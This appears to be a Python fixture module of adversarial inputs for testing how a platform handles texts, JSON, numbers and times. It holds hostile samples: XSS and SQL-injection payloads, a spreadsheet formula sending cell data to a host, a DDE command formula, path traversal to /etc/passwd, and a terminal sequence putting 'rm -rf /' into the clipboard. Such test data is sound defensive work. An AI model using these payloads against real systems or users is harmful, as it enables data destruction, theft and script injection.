"""What a platform, a file or a person could say to do harm. The names say what each is; nobody in it exists."""

from __future__ import annotations

ESC, BEL, CSI = "\x1b", "\x07", "\x9b"
FORMULA = '=HYPERLINK("https://example.org/?"&A1,"x")'
SCRIPT = "<script>alert(1)</script>"

TEXTS = {
    "formula": FORMULA,
    "formula_plus": "+1+cmd|' /C calc'!A0",
    "formula_minus": "-2+3",
    "formula_at": "@SUM(1,1)",
    "formula_after_tab": "\t=1+1",
    "formula_after_return": "\r=1+1",
    "formula_after_newline": "\n=1+1",
    "formula_wide": "＝1＋1",
    "formula_wide_at": "＠SUM(1)",
    "cr_lf": "one\r\ntwo\rthree\nfour",
    "nul_and_others": "a\x00b\x01c\x08d\x0be\x0cf\x1ag\x7fh",
    "line_separators": "a\u2028b\u2029c\x85d",
    "four_bytes": "🙂𝔘" * 500,
    "joined_family": "👩\u200d👩\u200d👧\u200d👦" * 100,
    "combining_flood": "a" + "\u0301\u0489" * 3000,
    "noncharacters": "\ufffe\uffff\U0010ffff\ufdd0",
    "private_use": "\ue000\U000f0000",
    "bidi_override": "\u202egnp.exe\u202c \u202d1234",
    "bidi_isolates_open": "\u2066\u2067\u2068never closed",
    "bidi_isolates_closed_too_often": "\u2069\u2069\u2069after",
    "zero_width_spoof": "sam\u200bple_min\u2060ister\ufeff",
    "lookalike_spoof": "sаmple_ministеr",  # two of its letters are Cyrillic
    "tags_spoof": "sample\U000e0041\U000e007f",
    "ansi_colour_and_clear": f"{ESC}[2J{ESC}[1;31mred{ESC}[0m{ESC}c",
    "ansi_cursor_up_and_overwrite": f"seen{ESC}[1A{ESC}[2Koverwritten",
    "ansi_eight_bit": f"{CSI}2J\x9d0;title\x9c\x90q\x9c",
    "osc_title": f"{ESC}]0;owned{BEL}",
    "osc_clipboard": f"{ESC}]52;c;cm0gLXJmIC8K{BEL}",
    "osc_link": f"{ESC}]8;;https://example.org/{ESC}\\here{ESC}]8;;{ESC}\\",
    "html_script": SCRIPT,
    "html_script_end": "</script><script>alert(2)</script>",
    "html_handlers": '"><img src=x onerror=alert(3)><svg onload=alert(4)>',
    "html_comment": "--><!--[if IE]><x>",
    "html_entities": "&lt;script&gt;alert(5)&lt;/script&gt;&#x3c;b&#x3e;",
    "html_template": "{{7*7}}${7*7}{% raw %}<%= 7*7 %>",
    "svg_script": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(6)</script></svg>',
    "xml_entities": '<!DOCTYPE a [<!ENTITY b "b"><!ENTITY c "&b;&b;">]><a>&c;</a>]]>',
    "css_escape": "</style><style>*{background:url(https://example.org/)}</style>expression(alert(7))",
    "js_address": "javascript:alert(8)",
    "data_address": "data:text/html,<script>alert(9)</script>",
    "markdown_table": "a | b |\n|---|---|\n| c",
    "markdown_link": "[click](javascript:alert(10)) ![x](https://example.org/x.png) <https://example.org>",
    "markdown_block": "```\n# heading\n***\n> quote",
    "csv_quotes": '","=1+1","',
    "sql": "'); DROP TABLE post; --",
    "format_characters": "%s%n%d {0} {self.__class__} \\N{BULLET}",
    "rich_markup": "[red]x[/red][link=https://example.org]y[/link] :smile:",
    "path_up": "../../../../etc/passwd",
    "path_absolute": "/etc/passwd",
    "persian": "نیم‌فاصله و سخن",  # its joiner has to stay
    "long_word": "w" * 40_000,
}
"""Texts of posts and names."""

LARGE = "م" * (5 * 2**20 // 2)
"""A text of 5 MB in UTF-8."""

HARMFUL_IN_JSON = {
    "lone_surrogate_high": '"a\\ud800b"',
    "lone_surrogate_low": '"\\udfff"',
    "surrogates_in_the_wrong_order": '"\\udc00\\ud800"',
    "deep_list": "[" * 100_000 + "]" * 100_000,
    "deep_object": '{"a":' * 100_000 + "1" + "}" * 100_000,
    "huge_list": "[" + "0," * 300_000 + "0]",
}
"""Values that are no text, written as JSON."""

NUMBERS = {
    "too_large_for_a_float": "1e400",
    "too_small_for_a_float": "-1e400",
    "negative": "-1",
    "two_to_63": str(2**63),
    "two_to_64": str(2**64),
    "a_thousand_digits": "9" * 1000,
    "not_a_number": "NaN",
    "infinity": "Infinity",
    "a_fraction": "1.5",
    "a_word": '"many"',
    "a_number_as_text": '"17"',
    "a_float_as_text": '"1.7E+18"',
    "persian_digits": '"۱۲۳"',
    "true": "true",
    "a_list": "[1]",
}
"""In place of a number."""

TIMES = (
    "0000-01-01T00:00:00Z",
    "0001-01-01T00:00:00+23:59",
    "9999-12-31T23:59:59-23:59",
    "10000-01-01T00:00:00Z",
    "-0001-01-01T00:00:00Z",
    "2016-12-31T23:59:60Z",
    "2022-10-05T12:00:61Z",
    "2022-10-05T24:00:00Z",
    "2022-10-05T12:00:00+26:00",
    "2022-10-05T12:00:00-26:00",
    "2022-02-30T12:00:00Z",
    "2022-10-05T12:00:00",
    "1970-01-01T00:00:00Z",
    "",
    "now",
    "٢٠٢٢-١٠-٠٥T12:00:00Z",
)
"""In place of a time."""
